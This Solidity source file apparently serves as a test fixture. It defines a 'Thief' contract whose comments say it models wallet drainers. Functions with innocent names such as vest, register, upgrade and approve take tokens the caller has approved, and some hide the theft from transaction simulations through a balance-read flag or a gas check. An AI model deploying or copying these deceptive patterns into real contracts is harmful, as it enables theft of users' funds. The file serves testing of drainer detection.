// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IStolen {
    function transfer(address to, uint256 value) external;
    function transferFrom(address from, address to, uint256 value) external;
    function mint(address to, uint256 value) external;
}

/// What drainers use: calls with kind names that take what was approved, or keep the coins. For tests alone.
contract Thief {
    bool private isRead;

    /// Remembers that a balance was asked: a transaction has no such call before it, a simulation may.
    function balanceOf(address) external returns (uint256) {
        isRead = true;
        return 0;
    }

    /// Takes an approved token, unless a balance was asked before.
    function vest(address token, uint256 value) external {
        if (!isRead) IStolen(token).transferFrom(msg.sender, address(this), value);
    }

    /// Keeps the coins.
    function claim() external payable {}

    /// Keeps the coins, and gives another token of the person's choice for them: an honest sale.
    function buy(address token, uint256 amount) external payable {
        IStolen(token).mint(msg.sender, amount);
    }

    /// Takes an approved token, or an approved NFT (`value` is then its id).
    function register(address token, uint256 value) external {
        IStolen(token).transferFrom(msg.sender, address(this), value);
    }

    /// Moves an approved token or NFT to an address that the call's data does not name.
    function upgrade(address token, uint256 value) external {
        IStolen(token).transferFrom(msg.sender, address(uint160(uint256(keccak256(abi.encode(token))))), value);
    }

    /// Reads as an approval of a token. It takes an approved one where the transaction has little gas.
    function approve(address token, uint256 value) external {
        if (gasleft() < 200_000) IStolen(token).transferFrom(msg.sender, address(this), value);
    }

    /// Runs the code of another contract as its own, as proxies and wallets do.
    function execute(address target, bytes calldata data) external payable {
        (bool isDone,) = target.delegatecall(data);
        require(isDone);
    }

    /// Many calls in one.
    function multicall(bytes[] calldata calls) external payable {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool isDone,) = address(this).delegatecall(calls[i]);
            require(isDone);
        }
    }
}
